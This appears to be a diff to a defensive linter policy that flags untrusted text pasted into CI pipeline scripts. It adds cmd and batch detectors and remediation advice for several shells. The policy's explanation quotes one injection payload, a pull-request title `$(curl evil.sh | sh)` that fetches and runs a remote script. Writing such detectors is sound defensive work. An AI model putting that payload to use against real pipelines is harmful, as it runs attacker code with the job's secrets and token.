@@ -14,7 +14,8 @@ import {
   type Violation,
 } from "#policy";
 import { handedOver } from "./calls.ts";
-import { evaluatedByShell, injectedByGroovy } from "./elsewhere.ts";
+import { evaluatedByShell, injectedByGroovy, putInByBat } from "./elsewhere.ts";
+import { putInByCmd } from "./textual.ts";
 import { worstOf } from "./worst.ts";
 
 export default definePolicy({
@@ -24,7 +25,7 @@ export default definePolicy({
   confidence: "high",
   title: "Text that others write becomes part of a pipeline's script",
   why: "The platform pastes the expression into the script before a shell reads it. A pull request titled `$(curl evil.sh | sh)` then runs with the job's token and secrets, and with whatever the runner can reach: models, data, registries.",
-  fix: 'Hand the text over in the step\'s `env:` and read it as a quoted variable: `"$TITLE"`.',
+  fix: 'Hand the text over in the step\'s `env:` and read it as a quoted variable: `"$TITLE"`, in PowerShell `$env:TITLE`, in JavaScript `process.env.TITLE`. In cmd `%TITLE%` is pasted in just the same: use another shell, or `!TITLE!` after `setlocal EnableDelayedExpansion`.',
   references: ["CWE-78", "CWE-94", "AML.T0010", "https://docs.github.com/actions/concepts/security/script-injections"],
   since: "0.1.0",
   limits:
@@ -36,7 +37,9 @@ export default definePolicy({
       for (const step of job.steps) {
         for (const code of codeOf(step)) yield* injected(document, job, step, code);
         yield* handedOver(document, job, step, repository);
+        yield* putInByCmd(document, job, step);
         yield* injectedByGroovy(document, job, step);
+        yield* putInByBat(document, job, step);
         yield* evaluatedByShell(document, job, step);
       }
       yield* handedOver(document, job, undefined, repository);
